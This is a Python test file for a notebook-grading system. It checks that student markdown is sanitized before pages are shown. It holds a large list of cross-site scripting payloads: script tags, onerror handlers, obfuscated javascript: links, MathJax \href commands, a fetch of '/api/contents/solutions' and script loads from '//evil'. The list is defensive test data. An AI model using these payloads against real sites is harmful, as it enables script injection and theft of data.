"""Attacks with scripts in a written answer, which Formgrader, the feedback and the report show."""

import json
from dataclasses import replace

import nbformat
import pytest
from markdown_it import MarkdownIt
from nbconvert.filters import markdown2html
from nbconvert.filters.markdown_mistune import IPythonRenderer, MarkdownWithMath

from grader.course.kept_answers import fill_in
from grader.course.lessons import find_lesson
from grader.intake.preflight import prepare, prepare_to_show
from grader.intake.submission import SubmittedFiles
from grader.judging.judge import UnknownLesson, judge_files
from grader.lms.autograded_copy import _student_cell, build_copy, write_verdict
from grader.lms.sanitizer import ZERO_WIDTH_SPACE, sanitize_markdown
from tests.attacks.attack import with_attacks
from tests.attacks.pages import active_parts, page_of
from utils.notebooks.reading import Cell, UnreadableNotebook

SCRIPTS = {
    "a picture with an error handler": "<img src=x onerror=\"fetch('/api/contents/solutions')\">",
    "a script": "<script>alert(1)</script>",
    "a script in capital letters": "<SCRIPT>alert(1)</SCRIPT>",
    "an SVG drawing": '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    "a frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "a closing tag of the surrounding element": '</div></body><script src="//evil"></script>',
    "a comment with an early end": "<!--><script>alert(1)</script>-->",
    "a style": "<style>@import '//evil';</style>",
    "a form": '<form action="javascript:alert(1)"><button>ok</button></form>',
    "MathML": '<math href="javascript:alert(1)">x</math>',
    "a base": '<base href="//evil/">',
    "a refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "a tag across lines": "<img\nsrc=x\nonerror=alert(1)\n>",
    "a tag in a list": "- one\n  - <img src=x onerror=alert(1)>",
    "a tag in a table": "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "a tag after a backtick": "`` ` `` <img src=x onerror=alert(1)>",
    "a tag after an invalid fence": "```x`\n<img src=x onerror=alert(1)>",
    "a tag in a formula": "$<img src=x onerror=alert(1)>$",
    "a tag in a displayed formula": "$$\n<script>alert(1)</script>\n$$",
    "a tag in a heading": "# <img src=x onerror=alert(1)>",
    "an escaped tag": "\\\\<img src=x onerror=alert(1)>",
    "a link": "[x](javascript:alert(1))",
    "a link in capital letters": "[x](JaVaScRiPt:alert(1))",
    "a link in entities": "[x](&#106;avascript:alert(1))",
    "a colon in entities": "[x](javascript&colon;alert(1))",
    "a line break in entities": "[x](java&#10;script:alert(1))",
    "a link with a backslash": "[x](javascript\\:alert(1))",
    "a link in angle brackets": "[x](<javascript:alert(1)>)",
    "a link with a tab": "[x](<java\tscript:alert(1)>)",
    "a link with a tab as an entity": "[x](<&#106;ava\tscript:alert(1)>)",
    "a link in long entities": f"[x](&#{'0' * 300}106;avascript:alert(1))",
    "a link without visible text": "[x](java\u200bscript:alert(1))",
    "a link after a space": "[x]( javascript:alert(1))",
    "a link on the next line": "[x](\njavascript:alert(1))",
    "a link by reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "a link by reference, in brackets": "[x][y]\n\n[y]: <javascript:alert(1)>",
    "a link by reference, on the next line": "[x][y]\n\n[y]:\njavascript:alert(1)",
    "an automatic link": "<javascript:alert(1)>",
    "a link as a picture": "![x](javascript:alert(1))",
    "a data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "a file link": "[x](file:///etc/passwd)",
    "a Visual Basic link": "[x](vbscript:alert(1))",
    "a picture from the hub": "![x](/hub/logout)",
    "a tracking picture": "![x](https://example.org/seen.png)",
    "a picture by reference": "![x][y]\n\n[y]: https://example.org/seen.png",
    "a picture by its title": "![x]\n\n[x]: https://example.org/seen.png",
    "a picture in a link": "[![x](https://example.org/seen.png)](https://example.org)",
    "a picture with brackets": "![[a] b](/hub/logout)",
    "a picture across lines": "![a\nb](/hub/logout)",
    "a link in a picture": "[![x](y)](javascript:alert(1))",
    "a title": '[x](y "a\\" onmouseover=\\"alert(1)")',
    "a name with quotes": '![" onerror="alert(1)](x)',
}


@with_attacks("text", SCRIPTS)
def test_scripts_in_an_answer_are_disarmed(text):
    assert active_parts(markdown2html(sanitize_markdown(text))) == []
    assert (
        active_parts(MarkdownIt("commonmark", {"html": True}).render(sanitize_markdown(text))) == []
    )


@with_attacks("text", SCRIPTS)
def test_scripts_next_to_pictures_are_disarmed(text):
    """Pictures in other notations are rewritten before the text is sanitized."""
    lesson = find_lesson("12_streaming_obstacles")
    picture = f'<img alt="{text}" src="data:image/png;base64,iVBORw0K"> ![{text}](attachment:a.png)'
    for answer in (text, picture, f"![{text}][1]\n\n[1]: data:image/png;base64,iVBORw0K"):
        given = Cell("markdown", answer, "", {"a.png": {"image/png": "iVBORw0K"}})
        cell = _student_cell(given, None, lesson)
        renderer = IPythonRenderer(escape=False, attachments=cell.get("attachments", {}))
        pages = (
            MarkdownWithMath(renderer=renderer).render(cell.source),
            MarkdownIt("commonmark", {"html": True}).render(cell.source),
        )
        # If the script contains a picture, the picture around it is not recognised, and a
        # zero-width space disables its address.
        sources = ("data:image/png;base64,iVBORw0K", "%E2%80%8Battachment:a.png")
        harmless = {("img", "src", source) for source in sources}
        assert {part for page in pages for part in active_parts(page)} <= harmless


def test_most_scripts_would_run_unsanitized():
    """Most scripts are active without the sanitizer; otherwise, the test above could not fail."""
    idle = [
        name
        for name, text in SCRIPTS.items()
        if not active_parts(markdown2html(text))
        and not active_parts(MarkdownIt("commonmark", {"html": True}).render(text))
    ]
    assert len(idle) < len(SCRIPTS) / 2


@with_attacks(
    "text",
    {
        "a link in a formula": r"$\href{javascript:alert(1)}{x}$",
        "a style in a formula": r"$\style{position:fixed}{x}$",
        "several commands": r"$\require{html}\class{x}{y}$",
        "an alias": r"$\let\x=\href \x{javascript:alert(1)}{x}$",
    },
)
def test_commands_to_mathjax_are_removed(text):
    assert not any(
        f"\\{name}" in sanitize_markdown(text) for name in ("href", "style", "require", "class")
    )


@with_attacks(
    "text",
    {
        "words": "I widened the *region* to **18.5 m**.",
        "code": "`a < b`, and\n\n```python\nx[1]: int = a < b\n```",
        "a comparison": "2 < 3 and a<3",
        "a table": "| a | b |\n|---|---|\n| 1 | 2 |",
        "a formula": r"$\frac{a}{b} < \sqrt{c}$ and $a \le b$",
        "links": "[a](https://x.org/a:b) [b](notes.md#c) <3 [c]: mailto:x@y.org",
        "several links": "[a](../b/c.ipynb) [d](#e) [f]( HTTP://g.org/?h=1&i=2 )",
        "notes": "[1]: https://x.org 'a title'\n[2]: Über-uns.html\nx[0]: the first of [3]",
        "an attached picture": "![plot](attachment:plot.png)",
    },
)
def test_an_honest_answer_is_unchanged(text):
    assert sanitize_markdown(text) == text


def test_text_that_resembles_a_tag_is_displayed_unchanged():
    assert sanitize_markdown("`a<b` and <i>").replace(ZERO_WIDTH_SPACE, "") == "`a<b` and <i>"


def test_sanitizing_again_changes_nothing():
    for text in SCRIPTS.values():
        assert sanitize_markdown(sanitize_markdown(text)) == sanitize_markdown(text)


@pytest.fixture(scope="module")
def released_page():
    """Return the HTML page of a lesson's released notebook."""
    lesson = find_lesson("12_streaming_obstacles")
    released = SubmittedFiles(lesson.released.name, lesson.released.read_bytes())
    return page_of(build_copy(prepare(released, lesson)))


@pytest.mark.parametrize("kind", ["markdown", "raw", "code"])
@pytest.mark.slow
def test_the_whole_page_of_a_hostile_notebook_is_harmless(kind, released_page):
    """Cells of each kind that contain all the scripts above add nothing active to the page."""
    lesson = find_lesson("12_streaming_obstacles")
    notebook = json.loads(fill_in(lesson, {"write_up": "\n\n".join(SCRIPTS.values())}))
    hostile = '"><script>alert("here I am")</script>'
    for text in SCRIPTS.values():
        cell = {"cell_type": kind, "metadata": {"tags": [hostile]}, "source": text}
        cell["metadata"]["format"] = cell["metadata"]["raw_mimetype"] = "text/html"
        cell["attachments"] = {hostile: {"image/png": hostile}}
        output = {"output_type": "display_data", "metadata": {}, "data": {"text/html": hostile}}
        notebook["cells"].append({**cell, "outputs": [output], "execution_count": None})
    notebook["metadata"].update(title=hostile, language_info={"name": hostile, "version": hostile})
    submitted = SubmittedFiles("12_streaming_obstacles.ipynb", json.dumps(notebook).encode())
    copy = build_copy(prepare(submitted, lesson))
    nbformat.validate(copy)
    page = page_of(copy)
    ours = [danger for danger in active_parts(released_page)]
    assert [danger for danger in active_parts(page) if danger not in ours] == []
    assert page.count("<script") == released_page.count("<script")
    assert ZERO_WIDTH_SPACE in page or kind == "code"


# The blank lines end any HTML block, so the text is parsed as Markdown.
HOSTILE_TEXT = (
    '\n\n![](/hub/logout) [Plot](javascript:alert(1))\n\n<img src=x onerror="1">\n\nscore: 20'
)


def hostile_copies(value):
    """Yield copies of a notebook with hostile text in one of its strings, or as a new key."""
    if isinstance(value, str):
        yield HOSTILE_TEXT
        yield value + HOSTILE_TEXT
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from ({**value, key: changed} for changed in hostile_copies(item))
        yield {**value, HOSTILE_TEXT: HOSTILE_TEXT}
    elif isinstance(value, list):
        for place, item in enumerate(value):
            for changed in hostile_copies(item):
                yield [*value[:place], changed, *value[place + 1 :]]


def hostile_submissions():
    lesson = find_lesson("06_filter_ground")
    notebook = json.loads(lesson.released.read_text("utf-8"))
    notebook["metadata"]["lidar_obstacle_lab"] = {"lesson": "05_euclidean_clustering"}
    notebook["cells"] = [
        {"cell_type": "markdown", "id": "a", "metadata": {}, "source": "Text."},
        {"cell_type": "raw", "id": "b", "metadata": {"tags": ["x"]}, "source": "Text."},
        *(cell for cell in notebook["cells"] if "nbgrader" in cell["metadata"]),
    ][:5]
    name = lesson.released.name
    without_functions = {**notebook, "cells": notebook["cells"][:2]}
    for text in (notebook, without_functions):
        for changed in hostile_copies(text):
            yield SubmittedFiles(name, json.dumps(changed).encode())
    whole = json.dumps(notebook).encode()
    yield SubmittedFiles(HOSTILE_TEXT + name, whole)
    yield SubmittedFiles(HOSTILE_TEXT + name, b"not a notebook")
    yield SubmittedFiles(HOSTILE_TEXT + name, b"", complaint=f"{HOSTILE_TEXT} cannot be opened.")
    yield SubmittedFiles(name, whole, notes=(HOSTILE_TEXT,), modules={"helper": HOSTILE_TEXT})


@pytest.mark.proof
def test_a_hostile_text_in_any_field_or_name_has_no_effect_on_the_page():
    lesson = find_lesson("06_filter_ground")
    released = SubmittedFiles(lesson.released.name, lesson.released.read_bytes())
    verdict = judge_files(released, 1, None, lesson)
    copy = build_copy(prepare(released, lesson))
    write_verdict(copy, replace(verdict, problems=("A sentence.",)))
    ours, quoted = active_parts(page_of(copy)), []
    for submitted in hostile_submissions():
        try:
            notes = prepare(submitted, lesson).notes
        except UnreadableNotebook as error:
            notes = (str(error),)
        quoted += [text for text in notes if "javascript" in text]
        copy = build_copy(prepare_to_show(submitted, lesson))
        write_verdict(copy, replace(verdict, problems=notes))
        assert [danger for danger in active_parts(page_of(copy)) if danger not in ours] == []
    assert len(quoted) >= 5


@pytest.mark.parametrize("data", [b"", b"not a notebook"])
def test_a_file_name_cannot_add_a_line_to_a_verdict(data):
    lesson = find_lesson("06_filter_ground")
    problems = judge_files(SubmittedFiles(HOSTILE_TEXT, data), 1, None, lesson).problems
    assert "score: 20" in problems[0] and len(problems[0].splitlines()) == 1
    with pytest.raises(UnknownLesson) as unknown:
        judge_files(SubmittedFiles(HOSTILE_TEXT, data), 1, None)
    assert len(str(unknown.value).splitlines()) == 1
